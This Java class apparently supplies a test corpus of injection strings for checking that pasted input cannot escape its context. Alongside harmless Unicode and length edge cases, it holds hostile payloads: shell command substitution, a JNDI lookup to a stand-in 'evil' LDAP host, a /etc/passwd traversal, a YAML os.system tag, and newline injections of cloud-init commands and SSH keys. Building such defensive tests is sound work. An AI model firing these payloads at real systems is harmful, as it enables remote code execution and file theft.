package dev.anchorhold.operator;

import java.util.List;

/** Texts that a person could write to break out of wherever they are pasted (injection). */
public final class HostileTexts {
    public static final List<String> ALL = List.of(
            "\"'`",
            "\"]}, {\"name\": \"evil\"",
            "x\nruncmd: [reboot]",
            "x\r\n- evil",
            "x\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ" + "e".repeat(42) + " evil",
            "}{: &a *a !!python/object:os.system {x: y} # - > |",
            "$(reboot) `reboot` ; reboot && reboot || reboot > /dev/null # ${IFS}",
            "{{ 7*7 }} {% raw %} ${jndi:ldap://evil/x} <script>alert(1)</script>",
            "%s %n %d %x %",
            "../../../../etc/passwd",
            "\\u0000 \\n \\\\ \\x00",
            "null\u0000byte",
            "escape\u001b[31m bell\u0007 del\u007f",
            "next\u0085line line\u2028sep para\u2029sep",
            "\uFEFFbom nonchar\uFFFF\uFFFE",
            "right\u202Eto\u2066left zero\u200Bwidth",
            "Größe 中文 🚀 👩🏽‍🚀 ﷽",
            " leading and trailing ",
            "true",
            "0x1F",
            "x".repeat(4096),
            "é".repeat(300),
            """
            -----BEGIN OPENSSH PRIVATE KEY-----
            b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
            -----END OPENSSH PRIVATE KEY-----
            """);

    private HostileTexts() {}
}
